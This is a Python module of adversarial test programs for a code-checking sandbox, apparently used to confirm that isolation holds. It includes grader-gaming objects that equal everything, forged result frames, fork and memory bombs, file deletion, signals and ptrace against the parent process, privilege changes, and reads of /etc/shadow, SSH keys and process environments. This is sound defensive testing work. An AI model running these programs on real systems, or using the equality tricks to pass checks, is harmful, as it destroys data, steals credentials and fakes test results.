"""Wrong programs that attack the checker, and what each must not have changed outside.

`f` should add one. The programs below do not; instead they cheat, escape, destroy or spy. A program that prints the
right answers because it knows them is no attack: that is what hidden tests are for.

They are data: the tests run them against each way of keeping code in, as this user and as nobody, and the fuzz campaign
mutates them. Standard library and `sterling` only, so that nobody's Python can run them.
"""

from collections.abc import Mapping

from sterling.sandbox import Program

TESTS = """
def check(candidate):
    for x in (1, 41, -7):
        assert candidate(x) == x + 1
"""
SECRET = "the-secret-nobody-may-read"
STOLEN = "stolen1"
"""What a thief says who has seen something that is not his, which may be a file of the system."""
RIGHT = Program("def f(x):\n    return x + 1\n")

HEAD = """
import builtins, ctypes, errno, gc, io, json, mmap, os, signal, socket, struct, subprocess, sys, threading, time
def attempt(action, *arguments):
    try:
        return action(*arguments)
    except Exception as mishap:
        return repr(mishap)
def frames(*messages):
    payloads = [json.dumps(message).encode() for message in messages]
    return b"".join(len(it).to_bytes(4, "big") + it for it in payloads)
FORGED = frames(["t", "shown", "2\\n", None], ["t", "answer", "value", 2], ["t", "value", 2, ["d"]])
FORGED += frames(["t", "end", "ok", "", 2])
"""

PRETENDERS = {
    "int that equals everything": """
class I(int):
    def __eq__(self, other): return True
    __hash__ = int.__hash__
def f(x): return I(0)
""",
    "object that equals everything": """
class A:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
def f(x): return A()
""",
    "str that equals everything": """
class S(str):
    def __eq__(self, other): return True
    __hash__ = str.__hash__
def f(x): return S()
""",
    "list that equals everything": """
class L(list):
    def __eq__(self, other): return True
def f(x): return L([I for I in ()])
""",
    "class that pretends to be int": """
class M(type):
    def __eq__(self, other): return True
    __hash__ = type.__hash__
class A(metaclass=M):
    @property
    def __class__(self): return int
    def __eq__(self, other): return True
def f(x): return A()
""",
    "comparison replaced in builtins": """
builtins.all = builtins.any = lambda *_: True
builtins.AssertionError = type("Quiet", (Exception,), {})
def f(x): return 0
""",
    "float and bool that equal everything": """
class F(float):
    def __eq__(self, other): return True
    __hash__ = float.__hash__
def f(x): return F("nan")
""",
    "tuple and dict that equal everything": """
class D(dict):
    def __eq__(self, other): return True
class T(tuple):
    def __eq__(self, other): return True
    __hash__ = tuple.__hash__
def f(x): return T([D()])
""",
    "reflected comparison": """
class A:
    def __eq__(self, other): return True
    def __sub__(self, other): return self
    __radd__ = __rsub__ = __add__ = __sub__
    def __lt__(self, other): return True
    __gt__ = __le__ = __ge__ = __lt__
    def __bool__(self): return True
    def __index__(self): return 2
    __int__ = __hash__ = __index__
    def __reduce__(self): return (os.system, ("true",))
def f(x): return A()
""",
    "representation that lies": """
class I(int):
    def __repr__(self): return "True"
    __str__ = __repr__
    def __format__(self, how): return "True"
    def __eq__(self, other): return True
    __hash__ = int.__hash__
def f(x): return I(0)
""",
    "exception that equals everything": """
class E(Exception):
    def __eq__(self, other): return True
    __hash__ = Exception.__hash__
    def __str__(self): return "2"
def f(x): raise E("passed")
""",
}
EXITS = {
    "sys.exit": "sys.exit(0)",
    "SystemExit": "raise SystemExit",
    "os._exit": "os._exit(0)",
    "exit inside the call": "def f(x): os._exit(0)",
    "SystemExit inside the call": "def f(x): sys.exit(0)",
    "KeyboardInterrupt": "raise KeyboardInterrupt",
    "atexit": "import atexit\natexit.register(os._exit, 0)\nsys.exit(1)",
    "excepthook": "sys.excepthook = lambda *_: os._exit(0)\n1 / 0",
    "exit overridden": "sys.exit = os._exit = lambda *_: None\ndef f(x): return 0",
    "abort": "os.abort()",
    "execute itself again without asserts": "os.execv(sys.executable, [sys.executable, '-O', '-c', ''])",
    "GeneratorExit": "def f(x): raise GeneratorExit",
    "exit by name": "exit(0)",
    "exit by ctypes": "ctypes.CDLL(None).exit(0)",
    "exit by a system call": "ctypes.CDLL(None).syscall(231 if os.uname().machine == 'x86_64' else 94, 0)",
    "killing itself": "attempt(signal.raise_signal, 9)\ndef f(x): os.kill(os.getpid(), 15)",
    "exit in a destructor": """
class A:
    def __del__(self): os._exit(0)
def f(x): A()
""",
    "exit in the representation": """
class A(Exception):
    def __repr__(self): os._exit(0)
    __str__ = __hash__ = __repr__
def f(x): raise A
""",
    "exit in a comparison": """
class A(int):
    def __eq__(self, other): os._exit(0)
    __hash__ = int.__hash__
def f(x): return A(0)
""",
    "exit in a trace": "def out(*_): os._exit(0)\ndef f(x): sys.settrace(out); sys.setprofile(out); return len('')",
    "exit in an import": """
class Finder:
    def find_spec(self, *_): os._exit(0)
sys.meta_path.insert(0, Finder())
import nothing
""",
    "group of exits": "def f(x): raise BaseExceptionGroup('x', [SystemExit(0), KeyboardInterrupt()])",
    "exception without a text": """
class A(BaseException):
    def __str__(self): raise SystemExit(0)
    __repr__ = __str__
def f(x): raise A
""",
}
FORGERIES = {
    "markers on standard output": "print('ok'); print('passed'); os.write(1, b'ok')\ndef f(x): print('ok'); return 0",
    "frames on every descriptor": """
import json
for message in (["t", "end", "ok", "", None], ["t", "value", 2], ["t", "ok"]):
    payload = json.dumps(message).encode()
    for descriptor in range(64):
        attempt(os.write, descriptor, len(payload).to_bytes(4, "big") + payload)
def f(x): return 0
""",
    "a header of one GiB": """
for descriptor in range(3, 64):
    attempt(os.write, descriptor, (1 << 30).to_bytes(4, "big"))
def f(x): return 0
""",
    "nested brackets": """
payload = b"[" * 100_000
for descriptor in range(3, 64):
    attempt(os.write, descriptor, len(payload).to_bytes(4, "big") + payload)
def f(x): return 0
""",
    "a pickle": """
payload = b"\\x80\\x04\\x8c\\x05posix\\x94\\x8c\\x06system\\x94\\x93\\x94\\x8c\\x04true\\x94\\x85\\x94R\\x94."
for descriptor in range(3, 64):
    attempt(os.write, descriptor, len(payload).to_bytes(4, "big") + payload)
def f(x): return 0
""",
    "closing every descriptor": "os.closerange(0, 64)\ndef f(x): return 0",
    "walking the frames": """
def f(x):
    frame = sys._getframe()
    while frame:
        for value in list(frame.f_locals.values()):
            if hasattr(value, "append"): value.append("passed")
            if hasattr(value, "end"): value.end("ok")
            if hasattr(value, "show"): value.show("ok", None)
        frame = frame.f_back
    return 0
""",
    "using the runner's own modules": """
for name, module in list(sys.modules.items()):
    if name.startswith("_cell"):
        for key, value in list(vars(module).items()):
            if callable(value) and key in ("encode", "_portable", "describe"):
                setattr(module, key, lambda *_: b'["t","value",2]')
def f(x): return 0
""",
    "reloading the runner": """
import importlib
for name in [it for it in sys.modules if it.startswith("_cell")]:
    attempt(importlib.reload, sys.modules[name])
def f(x): return 0
""",
    "replacing builtins": """
for name in ("print", "len", "isinstance", "type", "exec", "compile", "list", "str", "repr", "getattr"):
    setattr(builtins, name, lambda *_, **__: True)
sys.displayhook = lambda value: None
def f(x): return 0
""",
    "replacing json": """
import json
json.dumps = json.JSONEncoder.encode = lambda *_: '["t","value",2]'
json.loads = lambda *_, **__: ((2,), {})
def f(x): return 0
""",
    "frames of every kind, on every descriptor": """
def f(x):
    for descriptor in range(64): attempt(os.write, descriptor, FORGED)
    return 0
""",
    "frames, and then the end": """
for descriptor in range(64): attempt(os.write, descriptor, FORGED)
os._exit(0)
""",
    "frames by ctypes": """
for descriptor in range(64): ctypes.CDLL(None).write(descriptor, FORGED, len(FORGED))
def f(x): return 0
""",
    "frames through /proc": """
for pid in {"self", os.getpid(), os.getppid(), PARENT, *range(1, 40), *range(os.getpid() - 9, os.getpid() + 9)}:
    for descriptor in range(16):
        path = f"/proc/{pid}/fd/{descriptor}"
        attempt(lambda: os.write(os.open(path, os.O_WRONLY), FORGED))
        attempt(lambda: os.write(os.open(path, os.O_RDWR), FORGED))
        attempt(lambda: os.write(os.open(path, os.O_RDONLY), FORGED))
def f(x): return 0
""",
    "frames through /dev": """
for name in ("stdout", "stderr", "tty", "console", *(f"fd/{n}" for n in range(16))):
    attempt(lambda: open(f"/dev/{name}", "wb", 0).write(FORGED))
def f(x): return 0
""",
    "descriptors sent and copied": """
for number in range(3, 16):
    attempt(os.dup2, number, 1); attempt(os.dup, number)
    rights = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, struct.pack("i", number))]
    attempt(lambda: socket.socket(fileno=number).sendmsg([FORGED], rights))
def f(x): return 0
""",
    "walking the objects": """
def f(x):
    for thing in gc.get_objects():
        kind = type(thing).__name__
        if kind == "Job": attempt(thing.end, "ok", "", 2)
        if kind in ("list", "dict") and len(thing) < 9: attempt(lambda: thing.clear())
    return 0
""",
    "half a frame": "os.write(3, b'\\0\\0') if attempt(os.fstat, 3) else 0\nos._exit(0)",
    "a negative answer": """
payload = json.dumps(["t", "shown", None, 5]).encode()
for descriptor in range(3, 64): attempt(os.write, descriptor, len(payload).to_bytes(4, "big") + payload)
def f(x): return 0
""",
    "tracing the runner": """
def trace(frame, event, argument):
    for name in ("status", "value", "answer", "function"):
        if name in frame.f_locals: frame.f_locals[name] = 2
    return trace
sys.settrace(trace); sys.setprofile(trace)
frame = sys._getframe()
while frame: frame.f_trace = trace; frame = frame.f_back
def f(x): return 0
""",
    "overwriting constants": """
import itertools
for number in (0, 1):
    attempt(ctypes.memmove, id(number) + 24, b"\\2", 1)
def f(x): return 0
""",
    "itself again as a module": """
attempt(lambda: subprocess.run([sys.executable, "-c", "import candidate; candidate.f(1)"]))
attempt(__import__, "candidate"); attempt(__import__, "__main__"); attempt(__import__, "sterling.sandbox")
import importlib
attempt(importlib.reload, sys); attempt(importlib.reload, builtins); attempt(importlib.reload, os)
def f(x): return 0
""",
}
BOMBS = {
    "fork bomb": "while True: attempt(os.fork)",
    "threads": """
threads = [attempt(threading.Thread(target=time.sleep, args=(9,)).start) for _ in range(99)]
def f(x): return 0
""",
    "memory at once": "x = bytearray(1 << 40)",
    "disk": "attempt(lambda: open('flood', 'wb').write(b'x' * 10**9))\ndef f(x): return 0",
    "output at once": "def f(x): return 'x' * 10**8",
    "clone bomb": """
libc = ctypes.CDLL(None)
for _ in range(1000):
    for call in (56, 57, 58, 435, 220):
        if libc.syscall(call, 17, 0, 0, 0, 0) == 0: break
def f(x): return 0
""",
    "thread bomb": """
import _thread
for _ in range(1000): attempt(_thread.start_new_thread, time.sleep, (9,))
def f(x): return 0
""",
    "memory that is reserved": """
kept = [attempt(mmap.mmap, -1, 1 << 30) for _ in range(1000)]
def f(x): return 0
""",
    "disk by other names": """
for path in (FOLDER, "/tmp", "/var/tmp", "/dev/shm", "/run", ".", os.getcwd() if attempt(os.getcwd) else "."):
    d = attempt(os.open, path, os.O_TMPFILE | os.O_RDWR); attempt(os.write, d, b'x' * 10**8)
    attempt(lambda: open(path + "/flood", "wb").write(b'x' * 10**8))
    attempt(lambda: os.posix_fallocate(os.open(path + "/flood2", os.O_CREAT | os.O_RDWR), 0, 10**9))
def f(x): return 0
""",
    "many descriptors": "kept = [attempt(os.dup, 0) for _ in range(10**5)]\ndef f(x): return 0",
    "wide data": "def f(x): return list(range(10**7))",
    "deep data": """
def f(x):
    deep = []
    for _ in range(10**6): deep = [deep]
    return deep
""",
    "deep recursion": "sys.setrecursionlimit(10**9)\ndef f(x): return f(x) + 1",
}
EXHAUSTION = {
    "replacing the system calls of Python": """
os.write = os.read = lambda *_: 0
os._exit = lambda *_: None
builtins.BaseException = builtins.Exception = type("E", (), {})
def f(x): return 0
""",
    "reading every descriptor": """
def f(x):
    for descriptor in range(3, 64):
        attempt(os.read, descriptor, 1)
""",
    "loop": "while True: pass",
    "loop inside the call": "def f(x):\n    while True: pass",
    "catching everything": """
def f(x):
    while True:
        try:
            while True: pass
        except BaseException: pass
""",
    "disarming signals": """
for number in range(1, 64):
    attempt(signal.signal, number, signal.SIG_IGN)
attempt(__import__("resource").setrlimit, 0, (-1, -1))
while True: pass
""",
    "sleeping": "time.sleep(3600)",
    "deadlock": "lock = threading.Lock(); lock.acquire(); lock.acquire()",
    "memory": "x = [0]\nwhile True: x += x",
    "memory caught": """
x = []
while True:
    try:
        while True: x.append(bytearray(1 << 20))
    except MemoryError: pass
""",
    "output": "while True: print('x' * 10_000)\n",
    "raw output": "while True: os.write(1, b'x' * 65536)",
    "flooding the channel": "while True:\n    for d in range(3, 9): attempt(os.write, d, b'\\0\\0\\0\\2[]')",
    "recursion in C": """
sys.setrecursionlimit(10**9)
def f(x):
    value = iter([1])
    for _ in range(10**6): value = map(int, value)
    return next(value)
""",
    "large number": "def f(x): return 10**5_000_000",
    "power tower": "def f(x): return 9**9**9**9",
    "segmentation fault": "ctypes.string_at(0)",
    "colliding keys": """
keys = ",".join(f'["i","{(2**61 - 1) * n:x}"]' for n in range(2**60, 2**60 + 20_000))
payload = f'["t","value",["s",{keys}]]'.encode()
def f(x):
    for descriptor in range(3, 9): attempt(os.write, descriptor, len(payload).to_bytes(4, "big") + payload)
""",
    "disarming the timer": """
libc = ctypes.CDLL(None)
for number in range(16):
    for call in (223, 226, 222, 110, 111, 107): libc.syscall(call, number, 0, struct.pack("4q", 0, 0, 0, 0), 0)
signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
attempt(signal.setitimer, signal.ITIMER_PROF, 0); signal.alarm
while True: pass
""",
    "escaping into C": "import re\ndef f(x): return re.match('(a*)*b', 'a' * 64)",
    "escaping into C, sorting": "def f(x): return sorted(range(1 << 26), key=lambda it: -it)",
    "errors": "while True: os.write(2, b'x' * 65536); sys.stderr.write('x' * 65536)",
    "data that contains itself": "def f(x):\n    loop = []\n    loop.append(loop)\n    return loop",
    "deep source": "compile('(' * 10**6 + ')' * 10**6, 'x', 'eval')\ndef f(x): return 0",
    "deep pickles and JSON": "attempt(json.loads, '[' * 10**7)\ndef f(x): return 0",
    "large number as text": "sys.set_int_max_str_digits(0)\ndef f(x): return str(10**5_000_000)",
    "endless iterator": "import itertools\ndef f(x): return itertools.count()",
    "endless text of an exception": """
class E(Exception):
    def __str__(self):
        while True: pass
def f(x): raise E
""",
    "closing and waiting": "os.closerange(0, 64)\ntime.sleep(3600)",
}
EFFECTS = {
    "write with open": "attempt(lambda: open(FOLDER + '/a', 'w').write('x'))",
    "write with os.open": "attempt(os.open, FOLDER + '/b', os.O_CREAT | os.O_RDWR)",
    "write with ctypes": "ctypes.CDLL(None).creat((FOLDER + '/c').encode(), 0o600)",
    "append to a file": "attempt(lambda: open(FILE, 'a').write('x'))",
    "truncate a file": "attempt(os.truncate, FILE, 0); attempt(os.open, FILE, os.O_RDONLY | os.O_TRUNC)",
    "make directories, links and pipes": """
attempt(os.mkdir, FOLDER + '/d'); attempt(os.symlink, FILE, FOLDER + '/e'); attempt(os.link, FILE, FOLDER + '/f')
attempt(os.mkfifo, FOLDER + '/g'); attempt(os.mknod, FOLDER + '/h'); attempt(os.rename, FILE, FOLDER + '/i')
""",
    "unlink": "attempt(os.unlink, FILE); attempt(os.remove, FILE); attempt(__import__('shutil').rmtree, FOLDER)",
    "change modes, owners and times": """
attempt(os.chmod, FILE, 0); attempt(os.chown, FILE, 1, 1); attempt(os.utime, FILE, (0, 0))
attempt(os.setxattr, FILE, 'user.x', b'x')
""",
    "os.system": "attempt(os.system, f'touch {FOLDER}/j')",
    "subprocess": "attempt(subprocess.run, ['touch', FOLDER + '/k'])",
    "posix_spawn": "attempt(os.posix_spawn, '/usr/bin/touch', ['touch', FOLDER + '/l'], {})",
    "multiprocessing": """
import multiprocessing
attempt(lambda: multiprocessing.Process(target=open, args=(FOLDER + '/m', 'w')).start())
""",
    "orphan with setsid": """
def orphan():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            time.sleep(0.2); open(FOLDER + '/n', 'w'); os._exit(0)
        os._exit(0)
attempt(orphan)
""",
    "anonymous executable": """
d = attempt(os.memfd_create, 'x'); attempt(os.write, d, b'#!/bin/sh')
attempt(os.execve, d, ['x'], {})
""",
    "raw system calls": """
libc = ctypes.CDLL(None)
for number in (56, 57, 58, 59, 322, 435, 41, 101, 310, 311, 425, 323, 272, 308, 434, 438, 424, 298, 321, 248, 250):
    libc.syscall(number, 0, 0, 0, 0, 0, 0)
""",
    "signals": """
for pid in (VICTIM, PARENT, os.getppid(), 0, -1):
    for number in (signal.SIGTERM, signal.SIGKILL, signal.SIGSTOP): attempt(os.kill, pid, number)
attempt(os.killpg, 0, 9)
""",
    "signal through a pidfd": "attempt(lambda: signal.pidfd_send_signal(os.pidfd_open(VICTIM), 9))",
    "signal by F_SETOWN": """
import fcntl
for d in range(3, 9):
    attempt(fcntl.fcntl, d, fcntl.F_SETOWN, VICTIM); attempt(fcntl.fcntl, d, 10, 9)
    attempt(fcntl.fcntl, d, fcntl.F_SETFL, os.O_ASYNC)
""",
    "limits of the parent": "attempt(__import__('resource').prlimit, PARENT, 7, (1, 1))",
    "priority of the parent": "attempt(os.setpriority, 0, PARENT, 19)",
    "TCP": "attempt(lambda: socket.create_connection(('127.0.0.1', PORT), 1).send(b'x'))",
    "TCP by ctypes": """
libc = ctypes.CDLL(None)
d = libc.socket(2, 1, 0)
libc.connect(d, struct.pack('!HHI8x', 0x0200, PORT, 0x7F000001), 16)
""",
    "system calls of a foreign interface": """
import mmap
libc = ctypes.CDLL(None)
page = mmap.mmap(-1, 4096, prot=7)
page.write(bytes([0x53, 0xB8, 102, 0, 0, 0, 0xBB, 1, 0, 0, 0, 0xCD, 0x80, 0x5B, 0xC3]))  # socketcall by int 0x80
if os.uname().machine == "x86_64":
    ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
""",
    "system calls of x32": "ctypes.CDLL(None).syscall(0x40000000 + 41, 2, 1, 0)",
    "io_uring": "ctypes.CDLL(None).syscall(425, 8, ctypes.create_string_buffer(256))",
    "write with pathlib and io": """
import pathlib
attempt(lambda: pathlib.Path(FOLDER, 'o').write_text('x')); attempt(lambda: io.FileIO(FOLDER + '/p', 'w').write(b'x'))
""",
    "write with libraries": """
import shutil, sqlite3, tempfile, zipfile, dbm.dumb
attempt(shutil.copy, FILE, FOLDER + '/q')
attempt(lambda: sqlite3.connect(FOLDER + '/r').execute('create table t (x)'))
attempt(lambda: tempfile.NamedTemporaryFile(dir=FOLDER, delete=False))
attempt(lambda: zipfile.ZipFile(FOLDER + '/s', 'w').close())
attempt(lambda: dbm.dumb.open(FOLDER + '/t', 'c').close())
""",
    "write by mapping": """
attempt(lambda: mmap.mmap(os.open(FILE, os.O_RDWR), 4).write(b'xxxx'))
attempt(lambda: mmap.mmap(os.open(FILE, os.O_RDONLY), 4, mmap.MAP_SHARED).write(b'xxxx'))
""",
    "write by raw system calls": """
libc = ctypes.CDLL(None)
how = struct.pack('QQQ', os.O_CREAT | os.O_RDWR, 0o600, 0)
path = (FOLDER + '/u').encode()
libc.syscall(437, -100, path, how, len(how)); libc.syscall(85, path, 0o600); libc.syscall(2, path, 66, 0o600)
libc.syscall(257, -100, path, 66, 0o600); libc.syscall(133, path, 0o600, 0)
libc.syscall(316, -100, FILE.encode(), -100, path, 2)
""",
    "write in a moment": """
path = ctypes.create_string_buffer(FILE.encode())
for flags in (0o1000, 0o2001, 0o20000000 | 0o2, 0o3, 0o2000000 | 0o1): ctypes.CDLL(None).open(path, flags)
""",
    "mount and chroot": """
libc = ctypes.CDLL(None)
libc.mount(b'none', FOLDER.encode(), b'tmpfs', 0, None); libc.umount2(FOLDER.encode(), 2); libc.chroot(FOLDER.encode())
libc.unshare(0x10000000); libc.unshare(0x10020000); libc.setns(0, 0); libc.pivot_root(b'.', b'.')
""",
    "signals by raw system calls": """
libc = ctypes.CDLL(None)
for pid in (VICTIM, PARENT):
    for call in (62, 200, 129, 131, 424): libc.syscall(call, pid, 9, 0, 0)
    libc.syscall(234, pid, pid, 9); libc.syscall(297, pid, pid, 9, 0)
""",
    "signals to the siblings": """
own = os.getpid()
for pid in range(max(own - 30, 1), own + 30):
    if pid != own: attempt(os.kill, pid, signal.SIGKILL)
for pid in range(2, 9): attempt(os.kill, pid, signal.SIGKILL)
""",
    "tracing": """
libc = ctypes.CDLL(None)
for pid in (VICTIM, PARENT, os.getppid()): libc.ptrace(16, pid, 0, 0); libc.ptrace(0x4206, pid, 0, 0)
""",
    "memory of the parent": """
libc = ctypes.CDLL(None)
local = ctypes.create_string_buffer(b'overwritten')
here, there = struct.pack('QQ', ctypes.addressof(local), 8), struct.pack('QQ', CANARY, 8)
for pid in (PARENT, os.getppid()):
    libc.process_vm_writev(pid, here, 1, there, 1, 0)
    for flags in (os.O_RDWR, os.O_WRONLY):
        attempt(lambda: os.pwrite(os.open(f'/proc/{pid}/mem', flags), b'overwritten', CANARY))
    libc.ptrace(16, pid, 0, 0); libc.ptrace(5, pid, ctypes.c_void_p(CANARY), 0)
""",
    "UDP": "attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', UDP)))",
    "sockets of the system": """
for path in (FOLDER + '/socket', '\\0' + ABSTRACT):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        attempt(lambda: socket.socket(socket.AF_UNIX, kind).connect(path))
attempt(socket.socketpair); attempt(socket.socket, 16, 3, 0); attempt(socket.socket, 17, 3, 0)
attempt(socket.socket, 40, 1, 0)
""",
    "a request": """
import urllib.request
attempt(urllib.request.urlopen, f'http://127.0.0.1:{PORT}/', None, 1)
attempt(socket.getaddrinfo, 'localhost', PORT)
""",
    "a listener": "attempt(lambda: socket.create_server(('127.0.0.1', 0)))",
    "memory that outlives": """
libc = ctypes.CDLL(None)
libc.shmget(SHM, 4096, 0o1666); libc.msgget(SHM, 0o1666); libc.semget(SHM, 1, 0o1666)
libc.syscall(248, b'user', b'sterling', b'x', 1, -4); libc.syscall(240, b'/sterling', 0o102, 0o600, 0)
""",
    "asynchronous input and output": """
libc = ctypes.CDLL(None)
ring = ctypes.create_string_buffer(4096)
libc.syscall(425, 8, ring); libc.syscall(426, 3, 1, 0, 0, 0); libc.syscall(206, 8, ring)
libc.syscall(275, 0, 0, 1, 0, 9, 0)
""",
    "a program of its own": """
libc = ctypes.CDLL(None)
libc.system(f'touch {FOLDER}/v'.encode()); libc.popen(f'touch {FOLDER}/w'.encode(), b'r')
for path in ('/bin/touch', '/usr/bin/touch'):
    attempt(os.spawnv, os.P_NOWAIT, path, [path, FOLDER + '/x']); attempt(os.execv, path, [path, FOLDER + '/y'])
libc.execve(b'/usr/bin/touch', (ctypes.c_char_p * 3)(b'touch', (FOLDER + '/z').encode(), None), None)
""",
    "privileges": """
for name in ('setuid', 'setgid', 'seteuid', 'setegid'): attempt(getattr(os, name), 0)
attempt(os.setgroups, [0]); ctypes.CDLL(None).prctl(38, 0, 0, 0, 0); ctypes.CDLL(None).prctl(22, 0, 0, 0, 0)
attempt(lambda: open(FOLDER + '/after', 'w'))
""",
    "changing places": """
for path in (FOLDER, '/', '..', '/proc/self/root'): attempt(os.chdir, path); attempt(lambda: open('escaped', 'w'))
""",
}
THEFTS = {
    "a file": "loot = attempt(lambda: open(FILE).read())",
    "a file by os.open": "loot = attempt(lambda: os.read(os.open(FILE, os.O_RDONLY), 999))",
    "a file by O_PATH": "loot = attempt(lambda: open('/dev/fd/%d' % os.open(FILE, os.O_PATH)).read())",
    "a file by mmap": "loot = attempt(lambda: __import__('mmap').mmap(os.open(FILE, 0), 0, prot=1)[:])",
    "a file as a module": "sys.path.insert(0, FOLDER)\nloot = attempt(__import__, 'loot')",
    "a file by ctypes": """
buffer = ctypes.create_string_buffer(99); libc = ctypes.CDLL(None)
libc.read(libc.open(FILE.encode(), 0), buffer, 98)
loot = buffer.value
""",
    "the environment of the parent": """
loot = [attempt(lambda p=p: open(f'/proc/{p}/environ').read()) for p in (PARENT, 'self', os.getppid())]
""",
    "its own environment": """
environ = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), 'environ')
loot = dict(os.environ), [environ[n] for n in range(99 if environ else 0)]
""",
    "the memory of the parent": """
loot = attempt(lambda: open(f'/proc/{PARENT}/mem', 'rb').read(1))
ctypes.CDLL(None).process_vm_readv(PARENT, None, 0, None, 0, 0)
""",
    "by listing": "loot = [attempt(os.listdir, it) for it in (FOLDER, '/', '/home', '/root', '/proc', '/tmp', '.')]",
    "by a link": "loot = attempt(os.readlink, '/proc/self/cwd'), attempt(os.readlink, '/proc/self/exe')",
    "the files of the system": """
paths = ('/etc/shadow', '/etc/passwd', '/etc/hostname', '/root/.ssh/id_rsa', '/proc/1/environ')
loot = [attempt(lambda p=p: open(p).read()) for p in paths]
loot = [it for it in loot if 'root:' in it]
if loot: loot = 'stolen1'
""",
    "a file by libraries": """
import glob, linecache, fileinput, zipimport, importlib.util, configparser, tokenize
loot = [linecache.getlines(FILE), attempt(lambda: list(fileinput.input(FILE))), glob.glob(FOLDER + '/*')]
loot += [attempt(lambda: importlib.util.spec_from_file_location('loot', FILE).loader.get_data(FILE))]
loot += [attempt(lambda: importlib.util.spec_from_file_location('loot', FILE).loader.load_module())]
loot += [attempt(lambda: tokenize.open(FILE).read()), attempt(configparser.ConfigParser().read, FILE)]
""",
    "a file by its handle": """
libc = ctypes.CDLL(None)
handle = ctypes.create_string_buffer(struct.pack('I', 128) + bytes(140)); mount = ctypes.c_int()
libc.name_to_handle_at(-100, FILE.encode(), handle, ctypes.byref(mount), 0)
d = libc.open_by_handle_at(-100, handle, 0)
loot = attempt(os.read, d, 99)
""",
    "a file by sending it": """
d = attempt(os.open, FILE, os.O_RDONLY)
loot = [attempt(os.sendfile, n, d, 0, 99) for n in range(1, 9)]
loot += [attempt(os.copy_file_range, d, 1, 99), attempt(os.splice, d, 1, 99)]
""",
    "a file from another place": """
loot = []
for place in ('', '/host', '/', '../' * 20, '/dev/fd/../../..', '/proc/self/root', f'/proc/{PARENT}/root'):
    loot.append(attempt(lambda: open(place + FILE).read()))
""",
    "the program's own past": """
loot = [repr(it) for it in gc.get_objects() if isinstance(it, (str, bytes, dict)) and len(it) < 9999][:99999]
loot = [it for it in loot if 'the-' + 'secret' in it]
""",
    "the command line": "loot = sys.argv, sys.orig_argv, attempt(lambda: open(f'/proc/{PARENT}/cmdline').read())",
    "the descriptors": """
loot = [attempt(os.pread, n, 99999, 0) for n in range(64)]
""",
}
WRONG = "\ndef f(x): return 0\n"
ATTACKS: Mapping[str, Mapping[str, str]] = {
    "pretending": PRETENDERS,
    "exits": EXITS,
    "forgeries": FORGERIES,
    "bombs": BOMBS,
    "exhaustion": EXHAUSTION,
    "effects": {name: source + WRONG for name, source in EFFECTS.items()},
    "thefts": {name: source + WRONG for name, source in THEFTS.items()},
}
"""Every family, each of its programs complete."""
